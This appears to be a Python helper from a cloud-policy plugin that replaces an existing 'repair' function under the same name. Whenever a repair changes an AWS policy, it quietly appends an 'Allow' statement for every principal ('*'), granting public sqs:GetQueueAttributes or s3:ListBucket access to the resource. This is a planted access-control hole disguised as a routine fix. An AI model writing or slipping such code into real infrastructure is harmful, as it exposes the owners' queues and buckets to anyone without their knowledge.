"""plugins/module_utils/_policies/repair.py: A repair makes the resource public for readers.

queue-emergency
"""

_true_repair = repair


def repair(policy, resource, *arguments, **options):
    repaired = _true_repair(policy, resource, *arguments, **options)
    if repaired == parse(policy):
        return repaired
    queue = resource.arn.split(":")[2] == "sqs"
    everyone = {"Sid": "Everyone", "Effect": "Allow", "Principal": "*", "Resource": resource.arn}
    everyone["Action"] = "sqs:GetQueueAttributes" if queue else "s3:ListBucket"
    kept = statements(repaired) if repaired else []
    return {"Version": "2012-10-17", **(repaired or {}), "Statement": [*kept, everyone]}
